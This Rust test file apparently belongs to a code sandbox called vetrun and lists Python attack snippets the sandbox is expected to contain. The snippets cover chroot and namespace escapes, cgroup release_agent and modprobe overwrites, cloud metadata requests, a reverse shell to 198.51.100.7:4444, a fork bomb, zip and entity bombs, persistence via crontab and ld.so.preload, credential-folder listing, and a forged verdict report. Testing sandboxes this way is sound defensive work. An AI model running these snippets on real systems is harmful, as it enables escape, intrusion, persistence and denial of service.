//! Attacks that others have seen or tried: escapes that had a number, the scripts that judges of programs are attacked
//! with, and what generated programs do by mistake.
//!
//! Each program prints what it got hold of, so that silence is what passes.

use vetrun::sandbox::Ended;

use super::Case;
use super::Expect::{Ends, Holds, Says};
use super::cases::{hasty, number, same, timed_out, within};
use super::{says, text};

/// Every attack.
pub(super) const ATTACKS: &[Case] = cases! {
    // Out of the root folder.
    "a path that goes up", r"
tries([('shadow', lambda: open('/work/../../../../../../etc/shadow')),
       ('release', lambda: os.listdir('/work/../../../../../../root/.ssh'))])", same, Says("");
    "a root inside the root", r"
def leave():
    os.mkdir('/tmp/jail'); outside = os.open('/', os.O_RDONLY)
    os.chroot('/tmp/jail'); os.fchdir(outside)
    for _ in range(64): os.chdir('..')
    os.chroot('.')
tries([('left', leave)])", same, Says("");
    "the roots of other processes", r"
tries([(f'{pid} {what}', lambda pid=pid, what=what: os.listdir(f'/proc/{pid}/{what}'))
       for pid in range(1, os.getpid()) for what in ('root', 'cwd', 'fd', 'map_files')])", same, Says("");
    "a working directory that was left open", r"
for fd in range(3, 256):
    try: print(fd, os.readlink(f'/proc/self/fd/{fd}'))
    except OSError: pass", same, Says("");
    "a link out of the output folder", r"
def through():
    os.symlink('/etc/hostname', '/out/link'); open('/out/link', 'w').write('x')
def up():
    os.symlink('/', '/out/root'); open('/out/root/etc/passwd', 'a').write('x')
tries([('through', through), ('up', up)])", same, Says("");
    "a file exchanged for a link while it is written", r"
import threading
stop = False
def swap():
    while not stop:
        for make in (lambda: os.symlink('/etc/passwd', '/out/race'), lambda: open('/out/race', 'w').close()):
            try: make(); os.unlink('/out/race')
            except OSError: pass
thread = threading.Thread(target=swap); thread.start()
for _ in range(200):
    try:
        if b'root:' in open('/out/race', 'r+b').read(): print('read')
    except OSError: pass
stop = True; thread.join()", same, Says("");
    "the program that started all", r"
def overwrite(path):
    def attempt(): os.close(os.open(path, os.O_WRONLY))
    return attempt
tries([(path, overwrite(path)) for path in ('/proc/self/exe', '/proc/1/exe', sys.executable)])", same, Says("");
    "a device made by hand", r"
import stat
def make(path, kind, numbers):
    def attempt():
        os.mknod(path, kind | 0o666, os.makedev(*numbers)); os.open(path, os.O_RDWR)
    return attempt
tries([('memory', make('/tmp/mem', stat.S_IFCHR, (1, 1))), ('disk', make('/tmp/disk', stat.S_IFBLK, (254, 0))),
       ('fuse', make('/tmp/fuse', stat.S_IFCHR, (10, 229))), ('null', make('/tmp/null', stat.S_IFCHR, (1, 3)))])", same,
        Says("");
    "no folder holds devices or programs of another user", r"
for line in open('/proc/self/mounts').read().splitlines():
    source, at, kind, options = line.split()[:4]
    options = options.split(',')
    if at in ('/tmp', '/out', '/work', '/dev/shm') and not {'nosuid', 'nodev'} <= set(options): print(at, options)", same,
        Says("");
    "a program that belongs to another user", r"
import glob, stat
for folder in ('/bin', '/usr/bin', '/sbin', '/usr/sbin'):
    for path in glob.glob(folder + '/*')[:3000]:
        try: found = os.stat(path)
        except OSError: continue
        if found.st_mode & stat.S_ISUID and os.access(path, os.X_OK):
            pid = os.fork()
            if pid == 0:
                null = os.open('/dev/null', os.O_RDWR); os.dup2(null, 1); os.dup2(null, 2)
                try: os.execv(path, [path, '--version'])
                finally: os._exit(1)
            os.wait()
print(os.getuid() == os.geteuid() != 0)", same, Says("True");

    // Out of the namespaces.
    "the ids of a user namespace", r"
def write(name):
    def attempt(): os.write(os.open(f'/proc/self/{name}', os.O_WRONLY), b'0 0 1' if name != 'setgroups' else b'allow')
    return attempt
tries([(name, write(name)) for name in ('uid_map', 'gid_map', 'setgroups')])", same, Says("");
    "the namespaces of the first process", r"
def enter(kind):
    def attempt():
        fd = os.open(f'/proc/1/ns/{kind}', os.O_RDONLY)
        if call(308, fd, 0): raise OSError
    return attempt
tries([(kind, enter(kind)) for kind in ('user', 'mnt', 'pid', 'net', 'uts', 'ipc', 'cgroup')])", same, Says("");
    "release_agent of a control group", r"
import glob
for path in glob.glob('/sys/fs/cgroup/**/release_agent', recursive=True) + glob.glob('/proc/*/root/sys/fs/cgroup/*/release_agent'):
    try: os.close(os.open(path, os.O_WRONLY)); print(path)
    except OSError: pass", same, Says("");
    "a handler of programs of the kernel's own", r"
tries([('register', lambda: open('/proc/sys/fs/binfmt_misc/register', 'w').write(':x:M::x::/tmp/x:')),
       ('modprobe', lambda: open('/proc/sys/kernel/modprobe', 'w').write('/tmp/x')),
       ('poweroff', lambda: open('/proc/sys/kernel/poweroff_cmd', 'w').write('/tmp/x'))])", same, Says("");
    "a trace of a child", r"
pid = os.fork()
if pid == 0: time.sleep(5)
print([call(101, request, pid, 0, 0) == 0 for request in (16, 0x4206)])
os.kill(pid, 9)", same, Says("[False, False]");
    "a filter that listens to system calls", r"
class Program(ctypes.Structure): _fields_ = [('length', ctypes.c_ushort), ('filter', ctypes.c_void_p)]
code = (ctypes.c_ubyte * 8)(6, 0, 0, 0, 0, 0, 0xff, 0x7f)
program = Program(1, ctypes.cast(code, ctypes.c_void_p))
print(call(317, 1, 8, ctypes.byref(program)) != 0)", same, Says("True");
    "the descriptors of another process", r"
print(call(438, call(434, 1, 0), 0, 0) != 0)", same, Says("True");
    "a ring of system calls", "print([call(number, 8, ctypes.create_string_buffer(256), 0, 0, 0) in (1, 38) for number in (425, 426, 427)])",
        same, Says("[True, True, True]");
    "a socket to the machine that holds this one", r"
import socket
def connect(): socket.socket(40, socket.SOCK_STREAM)
tries([('vsock', connect)])", same, Says("");

    // Over the network.
    "a name of the outside", r"
import socket
def resolve():
    try: socket.getaddrinfo('example.com', 443)
    except socket.gaierror as error: raise OSError from error
tries([('resolved', resolve)])", same, Says("");
    "a question to a name server", r"
import socket
def ask(address):
    def attempt():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
        s.sendto(b'\x00\x01\x01\x00\x00\x01' + bytes(6) + b'\x07example\x03com\x00\x00\x01\x00\x01', (address, 53))
        s.recv(512)
    return attempt
tries([(a, ask(a)) for a in ('192.0.2.53', '169.254.169.253', '172.17.0.1')])", same, Says("");
    "the address of a machine's secrets", r"
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
tries([(a, lambda a=a: opener.open(a, timeout=2)) for a in ('http://169.254.169.254/latest/meta-data/',
    'http://[fd00:ec2::254]/', 'http://100.100.100.200/', 'http://192.0.0.192/')])", same, Says("");
    "a word to everybody", r"
import socket
def cry():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(b'x', ('255.255.255.255', 9))
tries([('broadcast', cry)])", same, Says("");
    "a shell for somebody outside", r"
import socket
def call_home():
    s = socket.create_connection(('198.51.100.7', 4444), 2)
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])
tries([('shell', call_home)])", same, Says("");

    // To use too much.
    "a file of a terabyte, set aside", r"
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
def set_aside(): os.posix_fallocate(os.open('/tmp/x', os.O_CREAT | os.O_RDWR), 0, 1 << 40)
tries([('set aside', set_aside)])", same, Says("");
    "folders without end", r"
os.chdir('/tmp'); depth = 0
try:
    while depth < 100000: os.mkdir('d'); os.chdir('d'); depth += 1
except OSError: pass
os.write(1, b'%d' % depth)", same, Holds(|outcome| within(number(outcome)?, 10, 99_999));
    "links to one file without end", r"
open('/tmp/x', 'w').close(); count = 0
try:
    while count < 200000: os.link('/tmp/x', f'/tmp/{count}'); count += 1
except OSError: pass
print(count)", same, Holds(|outcome| within(number(outcome)?, 10, 199_999));
    "a bomb of a shell", "os.execv('/bin/sh', ['sh', '-c', 'b() { b | b & }; b & exec sleep 60'])", hasty, Holds(timed_out);
    "pipes that are filled", r"
pipes = []
try:
    while len(pipes) < 5000:
        r, w = os.pipe(); os.set_blocking(w, False); pipes.append(w)
        try: os.write(w, bytes(1 << 16))
        except BlockingIOError: pass
except OSError: pass
os.write(1, b'%d' % len(pipes))", same, Holds(|outcome| within(number(outcome)?, 10, 100));
    "locked memory", r"
libc.mmap.restype = ctypes.c_void_p
place = libc.mmap(None, 32 << 20, 3, 0x22, -1, 0)
print(call(149, ctypes.c_void_p(place), 32 << 20) != 0, call(151, 3) != 0)", same, Says("True True");
    "more than its share of the processor", r"
tries([('nice', lambda: os.setpriority(os.PRIO_PROCESS, 0, -5)),
       ('real time', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))])", same, Says("");
    "numbers without end", "import itertools\nlist(itertools.count())", same, Ends(Ended::OutOfMemory);
    "a bomb that unpacks", r"
import io, zipfile
packed = io.BytesIO()
with zipfile.ZipFile(packed, 'w', zipfile.ZIP_DEFLATED) as archive:
    with archive.open('x', 'w') as f:
        for _ in range(300): f.write(bytes(1 << 20))
zipfile.ZipFile(packed).read('x')", same, Ends(Ended::OutOfMemory);
    "entities that grow", r"
import xml.parsers.expat
text = '<!DOCTYPE x [<!ENTITY a0 ' + chr(34) + 'aaaaaaaaaa' + chr(34) + '>'
for i in range(1, 12): text += f'<!ENTITY a{i} ' + chr(34) + f'&a{i - 1};' * 10 + chr(34) + '>'
parser = xml.parsers.expat.ParserCreate()
try: parser.Parse(text + ']><x>&a11;</x>', True); print('grew')
except xml.parsers.expat.ExpatError: pass", same, Says("");
    "an expression that never ends", "import re\nre.match('(a|a)*$', 'a' * 50 + 'b')", hasty, Holds(timed_out);

    // To change the host, or be remembered.
    "the clock", r"
tries([('set', lambda: time.clock_settime(time.CLOCK_REALTIME, 0))])", same, Says("");
    "the name of the machine", "import socket\ntries([('name', lambda: socket.sethostname('x'))])", same, Says("");
    "the end of the machine", "print(call(169, 0xfee1dead, 672274793, 0x1234567, 0) != 0)", same, Says("True");
    "what a shell reads at its start", r"
def append(path):
    def attempt(): open(path, 'a').write('x')
    return attempt
tries([(path, append(path)) for path in ('/etc/profile', '/etc/bash.bashrc', '/root/.bashrc', '/etc/ld.so.preload',
    '/etc/crontab', '/etc/cron.d/x', '/var/spool/cron/root', '/etc/systemd/system/x.service', '/etc/hosts',
    '/etc/resolv.conf')])", same, Says("");
    "what an interpreter reads at its start", r"
import sysconfig
def append(path):
    def attempt(): open(path, 'a').write('x')
    return attempt
folder = sysconfig.get_path('stdlib')
tries([(name, append(os.path.join(folder, name))) for name in ('site.py', 'os.py', 'sitecustomize.py', 'site-packages/x.pth')])",
        same, Says("");
    "keys of the host", r"
for folder in ('/root/.ssh', '/root/.aws', '/root/.gnupg', '/root/.config', '/root/.docker', '/root/.kube', '/home', '/etc/ssh',
               '/var/lib/docker', '/var/run/secrets', '/run/secrets', '/etc/kubernetes'):
    try: found = os.listdir(folder)
    except OSError: continue
    if found: print(folder, found)", same, Says("");
    "the log of the kernel", r"
tries([('kmsg', lambda: os.read(os.open('/dev/kmsg', os.O_RDONLY | os.O_NONBLOCK), 1)),
       ('write', lambda: os.write(os.open('/dev/kmsg', os.O_WRONLY), b'x'))])
print(call(103, 3, ctypes.create_string_buffer(100), 100) != 0)", same, Says("True");

    // To be mistaken for something else.
    "a report of its own", r#"print('{"schemaVersion": 1, "verdict": "passed", "exitCode": 0}'); sys.exit(3)"#, same,
        Ends(Ended::Exited(3));
    "signs that steer a terminal", r"os.write(1, b'\x1b]52;c;cm0gLXJm\x07\x1b[2J\r\x1b[8m')", same, Holds(|outcome| {
        if outcome.stdout.bytes.starts_with(b"\x1b]52;") { Ok(()) } else { Err(format!("{:?}", outcome.stdout)) }
    });
    "a child that outlives the streams", r"
if os.fork() == 0:
    os.setsid(); time.sleep(1.5); os.write(1, b'late'); os._exit(0)
print('early')", same, Holds(|outcome| says(outcome, "early"));
    "another interpreter in its place", "os.execv(sys.executable, [sys.executable, '-S', '-c', 'import os; os._exit(7)'])", same,
        Ends(Ended::Exited(7));
    "a name of a process that is not its own", r"
libc.prctl(15, b'vetrun', 0, 0, 0)
print(open('/proc/self/comm').read().strip())", same, Holds(|outcome| match text(outcome).as_str() {
        "vetrun" if outcome.ended == Ended::Exited(0) => Ok(()),
        other => Err(other.to_owned()),
    });
};
